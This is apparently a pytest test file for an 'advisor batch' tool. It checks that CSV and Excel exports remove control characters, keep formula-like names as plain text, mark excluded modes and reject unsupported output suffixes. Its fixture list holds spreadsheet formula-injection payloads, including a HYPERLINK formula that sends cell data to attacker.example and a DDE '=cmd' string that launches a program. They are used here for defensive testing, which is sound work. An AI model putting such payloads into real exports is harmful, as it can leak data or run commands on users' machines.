"""What the cells of ``advisor batch``'s CSV and workbook hold when the input is hostile or odd:
control characters (a vertical tab pasted from Word), text that starts like a formula
(``=HYPERLINK(…)``, ``=cmd|…``, ``#N/A``), modes a requirement rules out, and output names whose
suffix promises a format batch does not write."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import warnings
from pathlib import Path

import openpyxl
import pytest

from conftest import ROOT

REAL_WORLD = Path("/work/shared/cases/real-world/control-character-in-name.csv")
HEADER = "name,size,sector,privacy,budget\n"

# Names as a CRM export may hold them: each starts with what a spreadsheet could take for a formula.
FORMULA_NAMES = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+86 科技",
    "-甲公司",
    "@SUM(1,2)",
    "#N/A",
    "'s-Hertogenbosch BV",
    "'=已加引号",
    "''+双引号",
]


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _formula_csv(path: Path) -> Path:
    lines = [HEADER] + [f"{_csv_cell(name)},large,工业,low,high\n" for name in FORMULA_NAMES]
    lines.append(f"{_csv_cell('=bad()')},small,火星,high,low\n")  # a bad row: its name and message cells
    path.write_text("".join(lines), "utf-8")
    return path


def _every_cell(book):
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def _jsonl(cli, *args) -> list[dict]:
    result = cli("batch", *args, "-q")
    return [json.loads(line) for line in result.stdout.splitlines()]


# --- control characters in the workbook ---------------------------------------------------------------


def test_the_real_world_vertical_tab_gives_a_workbook_with_every_row(cli, tmp_path):
    source = shutil.copy(REAL_WORLD, tmp_path / "clients.csv")
    out = tmp_path / "out.xlsx"
    result = cli("batch", str(source), "-o", str(out), "-q")
    assert result.exit_code == 0, result.stderr
    names = [row[1] for row in openpyxl.load_workbook(out)["评估结果"].iter_rows(min_row=2, values_only=True)]
    assert names == ["华东精密机械有限公司", "云帆 科技（从Word粘贴）", "星河电商"]  # the vertical tab: a space, as in a memo


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_control_characters_in_names_messages_and_file_names(cli, tmp_path, kind):
    """A name holding C0 controls, in a good row and in a bad row, and a file name holding one:
    the workbook is written (exit 1: one row is bad), every text cell without the characters
    XML cannot hold, as a memo shows them (a vertical tab or form feed a space, others dropped)."""
    rows = [("甲\x0b公司\x01", "small", "金融", "high", "low"), ("乙\x0c丁\x02戊", "small", "火星", "high", "low"),
            ("丙", "large", "工业", "low", "high")]
    source = tmp_path / f"客户\x07清单.{kind}"
    if kind == "csv":
        source.write_text(HEADER + "".join(",".join(r) + "\n" for r in rows), "utf-8")
    else:
        keys = HEADER.strip().split(",")
        source.write_text("".join(json.dumps(dict(zip(keys, r)), ensure_ascii=False) + "\n" for r in rows), "utf-8")
    out = tmp_path / "out.xlsx"
    result = cli("batch", str(source), "-o", str(out), "-q")
    assert result.exit_code == 1, result.stderr
    book = openpyxl.load_workbook(out)
    results = list(book["评估结果"].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in results] == [1, 2, 3]
    assert [row[1] for row in results] == ["甲 公司", "乙 丁戊", "丙"]
    assert f"客户清单.{kind}，第 2 条记录" in results[1][11] and "火星" in results[1][11]  # the file name's \x07 dropped
    assert results[0][2] and results[2][2]  # the good rows are scored
    assert [row[1] for row in book["合规事项"].iter_rows(min_row=2, values_only=True)][0] == "甲 公司"
    for title, cell in _every_cell(book):
        if isinstance(cell.value, str):
            assert not any(ch < " " and ch not in "\t\n" for ch in cell.value), (title, cell.coordinate)


def test_a_lone_surrogate_in_a_name_does_not_stop_the_workbook():
    from advisor.batch.xlsx_writer import _text_cells

    class Sheet:  # _text_cells needs a sheet only for cells typed as strings
        pass

    assert _text_cells(Sheet(), (1, "甲\ud800乙", 2.5)) == [1, "甲乙", 2.5]


def test_plain_rows_are_passed_to_openpyxl_as_they_are():
    """The check per row is a first character and ``str.isprintable``: a clean row is the same object."""
    from advisor.batch.xlsx_writer import _text_cells

    row = (1, "江西省某市第一人民医院", "本地部署", "on_premise", 4.5, "混合部署 3; AaaS模式 0", None, 10, 20.5)
    assert _text_cells(None, row) is row


# --- text that looks like a formula ----------------------------------------------------------------


def test_workbook_text_cells_are_strings_never_formulas(cli, tmp_path):
    source = _formula_csv(tmp_path / "inj.csv")
    out = tmp_path / "inj.xlsx"
    assert cli("batch", str(source), "-o", str(out), "-q").exit_code == 1
    book = openpyxl.load_workbook(out)
    kinds = {cell.data_type for _, cell in _every_cell(book)}
    assert "f" not in kinds and "e" not in kinds, kinds
    expected = [line.get("profile") for line in _jsonl(cli, str(source))]
    for sheet in ("评估结果", "合规事项"):
        for row in book[sheet].iter_rows(min_row=2):
            number, name = row[0].value, row[1]
            assert name.value == (expected[number - 1] or "=bad()")  # shown exactly as given
            assert name.data_type == "s"
            assert name.quotePrefix == (name.value[0] in "=+-@#")  # Excel keeps it text when edited
    bad = list(book["评估结果"].iter_rows(min_row=len(FORMULA_NAMES) + 1))[-1]
    assert bad[11].data_type == "s" and "火星" in bad[11].value
    # the plain cells are untouched: no quote prefix on a label or an id
    assert all(not cell.quotePrefix for cell in list(book["评估结果"].iter_rows(min_row=2))[0][2:4])


def test_a_file_name_starting_with_equals_gives_a_text_error_cell(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("=1+2.csv").write_text(HEADER + "甲,small,火星,high,low\n", "utf-8")
    assert cli("batch", "=1+2.csv", "-o", "fn.xlsx", "-q").exit_code == 1
    cell = openpyxl.load_workbook("fn.xlsx")["评估结果"]["L2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.startswith("=1+2.csv，第 1 条记录，第 2 行：画像无效")


def test_a_workbook_from_the_web_api_has_no_formula(tmp_path):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    from advisor.web.app import create_app
    from advisor.web.settings import Settings

    api = TestClient(create_app(Settings()), base_url="http://127.0.0.1:8000", raise_server_exceptions=False)
    profiles = [{"name": name, "size": "large", "sector": "工业", "privacy": "low", "budget": "high"}
                for name in ["=1+1", "甲\x0b公司"]]
    response = api.post("/api/v1/batch?format=xlsx", json=profiles)
    assert response.status_code == 200, response.text
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert "f" not in {cell.data_type for _, cell in _every_cell(book)}
    assert [c.value for c in book.worksheets[0]["B"]][1:] == ["=1+1", "甲 公司"]


def test_csv_text_cells_that_start_like_a_formula_get_a_quote_and_give_the_text_back(cli, tmp_path):
    source = _formula_csv(tmp_path / "inj.csv")
    result = cli("batch", str(source), "-q", "-f", "csv", "--headers", "ids")
    assert result.exit_code == 1
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    lines = _jsonl(cli, str(source))
    for row, line in zip(table, lines, strict=True):
        name = line.get("profile", "=bad()")
        assert row["profile"] == ("'" + name if name.lstrip("'")[0] in "=+-@" else name)
        assert re.sub(r"^'(?='*[=+\-@\t\r])", "", row["profile"]) == name  # the README's way back to the text
        if "error" in line:
            assert row["error"] == line["error"]  # it starts with the file name: no quote needed
        else:
            assert row["score"] == repr(float(line["deployment"]["score"]))  # numbers are never quoted
    names = [row["profile"] for row in table]
    assert "'=cmd|' /C calc'!A0" in names and "#N/A" in names  # '#' starts no formula in a CSV
    assert "'s-Hertogenbosch BV" in names and "''=已加引号" in names and "'''+双引号" in names


def test_csv_error_cell_of_a_file_named_like_a_formula_is_quoted(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("=1+2.csv").write_text(HEADER + "甲,small,火星,high,low\n", "utf-8")
    result = cli("batch", "=1+2.csv", "-q", "-f", "csv", "--headers", "ids")
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["error"].startswith("'=1+2.csv，第 1 条记录")


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_guard_quotes_each_leading_character(lead):
    from advisor.batch.writers import csv_guard

    assert csv_guard(lead + "SUM(A1)") == "'" + lead + "SUM(A1)"
    assert csv_guard("''" + lead + "1") == "'''" + lead + "1"  # a quote of the text's own stays apart
    assert csv_guard("甲" + lead) == "甲" + lead and csv_guard("") == ""
    assert csv_guard("'甲") == "'甲" and csv_guard("'") == "'" and csv_guard("''") == "''"


# --- modes a requirement rules out, in the CSV --------------------------------------------------------


def test_csv_alternatives_mark_the_excluded_modes_in_the_recommendations_order(cli, tmp_path):
    from batch_data import client_rows, write_csv

    source = write_csv(tmp_path / "clients.csv", client_rows(80, seed=9))
    table = list(csv.DictReader(io.StringIO(cli("batch", str(source), "-q", "-f", "csv", "--headers", "ids").stdout)))
    lines = _jsonl(cli, str(source))
    marked = 0
    for row, line in zip(table, lines, strict=True):
        if "error" in line:
            continue
        expected = [f"{a['mode']}:{float(a['score'])!r}" + (":excluded" if a["excluded"] else "")
                    for a in line["deployment"]["alternatives"]]
        assert row["alternatives"].split(";") == expected
        marked += row["alternatives"].count(":excluded")
        # what a reader of mode:score keeps reading: the mode and the score are the first two fields
        assert [e.split(":")[0] for e in row["alternatives"].split(";")] == \
            [a["mode"] for a in line["deployment"]["alternatives"]]
    assert marked  # some modes are ruled out in this list


def test_an_excluded_mode_scoring_higher_is_marked(cli, tmp_path):
    source = tmp_path / "alt.csv"
    source.write_text("name,employees,sector,privacy,budget,personal_info\n仁和医院,800,医疗,高,中,敏感个人信息\n", "utf-8")
    row = next(csv.DictReader(io.StringIO(cli("batch", str(source), "-q", "-f", "csv", "--headers", "ids").stdout)))
    line = _jsonl(cli, str(source))[0]
    excluded = {a["mode"] for a in line["deployment"]["alternatives"] if a["excluded"]}
    assert any(a["score"] > line["deployment"]["score"] for a in line["deployment"]["alternatives"] if a["excluded"])
    for entry in row["alternatives"].split(";"):
        assert entry.endswith(":excluded") == (entry.split(":")[0] in excluded)


# --- the output's suffix ------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "instead"), [("scored.xls", ".xlsx"), ("scored.XLSM", ".xlsx"),
                                               ("scored.ods", ".xlsx"), ("scored.tsv", ".csv")])
def test_a_suffix_of_a_format_batch_does_not_write_is_a_usage_error(cli, tmp_path, name, instead):
    source = tmp_path / "c.csv"
    source.write_text(HEADER + "甲,small,金融,high,low\n", "utf-8")
    out = tmp_path / name
    result = cli("batch", str(source), "-o", str(out), "-q", "--lang", "en")
    assert result.exit_code == 2
    assert f"batch does not write {Path(name).suffix.lower()} files; use a name ending in {instead}" in result.stderr
    assert ".csv .txt .xlsx" in result.stderr
    assert list(tmp_path.iterdir()) == [source]  # nothing written, no temporary file
    zh = cli("batch", str(source), "-o", str(out), "-q", "--lang", "zh")
    assert zh.exit_code == 2 and f"不能写出 {Path(name).suffix.lower()} 文件；请改用以 {instead} 结尾的文件名" in zh.stderr
    # a format named outright is the user's choice, whatever the suffix
    assert cli("batch", str(source), "-o", str(out), "-q", "-f", "csv").exit_code == 0
    assert out.read_text("utf-8-sig").startswith("序号,企业名称,")


def test_txt_writes_the_table_and_an_unknown_suffix_json_lines(cli, tmp_path):
    source = tmp_path / "c.csv"
    source.write_text(HEADER + "甲,small,金融,high,low\n", "utf-8")
    assert cli("batch", str(source), "-o", str(tmp_path / "t.txt"), "-q").exit_code == 0
    assert (tmp_path / "t.txt").read_text("utf-8").startswith("序号  企业名称")
    assert cli("batch", str(source), "-o", str(tmp_path / "t.out"), "-q").exit_code == 0
    assert json.loads((tmp_path / "t.out").read_text("utf-8"))["profile"] == "甲"


def test_readme_lists_the_suffixes_the_writer_knows():
    from advisor.batch.writers import REFUSED_SUFFIXES, SUFFIX_FORMATS

    readme = (ROOT / "README.md").read_text("utf-8")
    outputs = readme[readme.index("### Outputs"):readme.index("### Bad rows, summary, progress")]
    for suffix in [*SUFFIX_FORMATS, *REFUSED_SUFFIXES]:
        assert f"`{suffix}`" in outputs, suffix
